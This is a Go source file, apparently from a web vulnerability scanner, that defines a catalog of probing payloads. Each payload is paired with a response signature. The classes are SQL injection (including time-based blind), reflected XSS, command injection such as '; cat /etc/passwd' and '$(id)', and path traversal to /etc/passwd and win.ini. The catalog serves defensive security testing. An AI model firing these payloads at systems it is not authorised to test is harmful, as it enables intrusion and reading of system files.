// Package payloads provides the static payload catalog used by the probing
// engine. Each payload bundles an injection value with the detection
// signature its vulnerability class looks for in responses. Payload sets
// are versioned data, not code: the built-in catalog can be replaced from a
// YAML file without touching execution logic.
package payloads

import (
	"time"

	"github.com/probekit/probekit/pkg/duration"
)

// Class identifies a vulnerability class.
type Class string

const (
	ClassSQLi          Class = "sqli"
	ClassXSS           Class = "xss"
	ClassCmdInjection  Class = "cmdi"
	ClassPathTraversal Class = "traversal"

	// ClassHeaders is the baseline-only security header check.
	// It carries no payloads; it is listed so profiles can select it.
	ClassHeaders Class = "headers"
)

// IsValid reports whether c is a recognized vulnerability class.
func (c Class) IsValid() bool {
	switch c {
	case ClassSQLi, ClassXSS, ClassCmdInjection, ClassPathTraversal, ClassHeaders:
		return true
	}
	return false
}

// String returns the class as a string.
func (c Class) String() string {
	return string(c)
}

// AllClasses returns every vulnerability class in canonical order.
func AllClasses() []Class {
	return []Class{
		ClassSQLi,
		ClassXSS,
		ClassCmdInjection,
		ClassPathTraversal,
		ClassHeaders,
	}
}

// InjectionPoint identifies which part of the request a payload mutates.
type InjectionPoint string

const (
	InjectQuery  InjectionPoint = "query"
	InjectBody   InjectionPoint = "body"
	InjectHeader InjectionPoint = "header"
	InjectPath   InjectionPoint = "path"
)

// Payload is a single attack payload. Payloads are static: loaded once at
// process start and never mutated afterwards.
type Payload struct {
	Class       Class
	Value       string
	Point       InjectionPoint
	Signature   string
	Description string

	// Sleep is the delay a time-based payload injects server-side.
	// Zero for payloads detected by content alone.
	Sleep time.Duration

	// Boolean marks one half of a boolean differential pair.
	// "true" payloads should widen the response, "false" payloads narrow it.
	Boolean string
}

// xssMarker is the reflection marker embedded in XSS payload values.
// Deliberately unlikely to appear in legitimate page content.
const xssMarker = "pkxss1337"

// builtin is the built-in payload catalog. Ordering within each class is
// part of the contract: iteration must be stable across calls so scans are
// reproducible.
var builtin = map[Class][]Payload{
	ClassSQLi: {
		{Class: ClassSQLi, Value: `'`, Point: InjectQuery, Signature: "SQL syntax", Description: "Single quote injection"},
		{Class: ClassSQLi, Value: `"`, Point: InjectQuery, Signature: "SQL syntax", Description: "Double quote injection"},
		{Class: ClassSQLi, Value: `' OR '1'='1`, Point: InjectQuery, Signature: "SQL syntax", Description: "Classic OR injection"},
		{Class: ClassSQLi, Value: `' OR '1'='1' --`, Point: InjectQuery, Signature: "SQL syntax", Description: "OR injection with comment"},
		{Class: ClassSQLi, Value: `') OR ('1'='1`, Point: InjectQuery, Signature: "SQL syntax", Description: "Parenthesis escape"},
		{Class: ClassSQLi, Value: `' UNION SELECT NULL--`, Point: InjectQuery, Signature: "SQL syntax", Description: "Union NULL probe"},
		{Class: ClassSQLi, Value: `' AND '1'='1`, Point: InjectQuery, Signature: "boolean-true", Boolean: "true", Description: "Boolean true condition"},
		{Class: ClassSQLi, Value: `' AND '1'='2`, Point: InjectQuery, Signature: "boolean-false", Boolean: "false", Description: "Boolean false condition"},
		{Class: ClassSQLi, Value: `' AND SLEEP(5)--`, Point: InjectQuery, Signature: "time-delay", Sleep: duration.SleepProbe, Description: "MySQL time-based blind"},
		{Class: ClassSQLi, Value: `';SELECT pg_sleep(5)--`, Point: InjectQuery, Signature: "time-delay", Sleep: duration.SleepProbe, Description: "PostgreSQL time-based blind"},
		{Class: ClassSQLi, Value: `';WAITFOR DELAY '0:0:5'--`, Point: InjectQuery, Signature: "time-delay", Sleep: duration.SleepProbe, Description: "MSSQL time-based blind"},
		{Class: ClassSQLi, Value: `' OR '1'='1`, Point: InjectBody, Signature: "SQL syntax", Description: "OR injection in form body"},
	},
	ClassXSS: {
		{Class: ClassXSS, Value: `<script>alert('` + xssMarker + `')</script>`, Point: InjectQuery, Signature: `<script>alert('` + xssMarker + `')</script>`, Description: "Script tag reflection"},
		{Class: ClassXSS, Value: `<img src=x onerror=alert('` + xssMarker + `')>`, Point: InjectQuery, Signature: `onerror=alert('` + xssMarker + `')`, Description: "Image onerror handler"},
		{Class: ClassXSS, Value: `<svg onload=alert('` + xssMarker + `')>`, Point: InjectQuery, Signature: `onload=alert('` + xssMarker + `')`, Description: "SVG onload handler"},
		{Class: ClassXSS, Value: `"><script>alert('` + xssMarker + `')</script>`, Point: InjectQuery, Signature: `<script>alert('` + xssMarker + `')</script>`, Description: "Attribute breakout"},
		{Class: ClassXSS, Value: `<script>alert('` + xssMarker + `')</script>`, Point: InjectBody, Signature: `<script>alert('` + xssMarker + `')</script>`, Description: "Script tag in form body"},
	},
	ClassCmdInjection: {
		{Class: ClassCmdInjection, Value: `; cat /etc/passwd`, Point: InjectQuery, Signature: `root:x:0:0`, Description: "Semicolon chained cat"},
		{Class: ClassCmdInjection, Value: `| cat /etc/passwd`, Point: InjectQuery, Signature: `root:x:0:0`, Description: "Pipe chained cat"},
		{Class: ClassCmdInjection, Value: `$(id)`, Point: InjectQuery, Signature: `uid=`, Description: "Subshell id"},
		{Class: ClassCmdInjection, Value: "`id`", Point: InjectQuery, Signature: `uid=`, Description: "Backtick id"},
		{Class: ClassCmdInjection, Value: `&& whoami`, Point: InjectQuery, Signature: `uid=`, Description: "AND chained whoami"},
		{Class: ClassCmdInjection, Value: `; sleep 5`, Point: InjectQuery, Signature: "time-delay", Sleep: duration.SleepProbe, Description: "Injected sleep"},
	},
	ClassPathTraversal: {
		{Class: ClassPathTraversal, Value: `../../../etc/passwd`, Point: InjectQuery, Signature: `root:x:0:0`, Description: "Relative traversal to passwd"},
		{Class: ClassPathTraversal, Value: `....//....//....//etc/passwd`, Point: InjectQuery, Signature: `root:x:0:0`, Description: "Filter-evading traversal"},
		{Class: ClassPathTraversal, Value: `..%2F..%2F..%2Fetc%2Fpasswd`, Point: InjectQuery, Signature: `root:x:0:0`, Description: "URL-encoded traversal"},
		{Class: ClassPathTraversal, Value: `../../../etc/passwd`, Point: InjectPath, Signature: `root:x:0:0`, Description: "Traversal in path segment"},
		{Class: ClassPathTraversal, Value: `..\..\..\windows\win.ini`, Point: InjectQuery, Signature: `[extensions]`, Description: "Windows traversal to win.ini"},
	},
	// No payloads: the header check runs against the baseline response only.
	ClassHeaders: {},
}

// Catalog is an immutable registry of payload sets per vulnerability class.
type Catalog struct {
	sets map[Class][]Payload
}

// Builtin returns the built-in catalog.
func Builtin() *Catalog {
	return &Catalog{sets: builtin}
}

// ForClass returns the payload sequence for a class. The returned slice is
// a copy in stable order; callers may not observe mutation between calls.
func (c *Catalog) ForClass(cl Class) []Payload {
	src := c.sets[cl]
	out := make([]Payload, len(src))
	copy(out, src)
	return out
}

// Count returns the total number of payloads across the given classes.
func (c *Catalog) Count(classes ...Class) int {
	n := 0
	for _, cl := range classes {
		n += len(c.sets[cl])
	}
	return n
}

// XSSMarker returns the reflection marker used by built-in XSS payloads.
func XSSMarker() string {
	return xssMarker
}
